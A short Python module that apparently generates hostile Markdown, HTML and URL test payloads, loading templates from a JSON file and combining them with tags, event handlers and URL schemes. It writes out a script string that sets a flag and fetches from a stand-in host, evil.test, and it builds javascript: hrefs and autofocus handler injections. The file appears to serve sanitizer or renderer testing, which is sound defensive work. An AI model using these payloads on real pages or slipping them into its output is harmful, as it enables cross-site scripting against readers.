"""Hostile model text: Markdown, HTML and URLs that want to run a script, reach the network or take over the
page.

The parts are in `hostile.json`: `tricks`, `fetches`, and `places` for each of `schemes`, and `tags` with
`handlers`.
"""

import json
from collections.abc import Iterator
from itertools import product
from pathlib import Path

PARTS: dict[str, list[str]] = json.loads(Path(__file__).with_suffix(".json").read_text())
RUN = "window.pwned=1;fetch('//evil.test/x')"
FAR = "//evil.test/x"


def tricks() -> list[str]:
    """The nastiest ones."""
    return [trick.format(run=RUN) for trick in PARTS["tricks"]]


def payloads() -> list[str]:
    """All of them, each once."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    yield from tricks()
    yield from (fetch.format(far=FAR) for fetch in PARTS["fetches"])
    yield from (place.format(url=url, run=RUN) for place, url in product(PARTS["places"], PARTS["schemes"]))
    handlers = PARTS["handlers"]
    for number, tag in enumerate(PARTS["tags"]):
        for step in range(3):
            handler = handlers[(number + step * 5) % len(handlers)]
            yield f'<{tag} {handler}="{RUN}" src=x href="javascript:{RUN}" tabindex=0 autofocus>x</{tag}>'
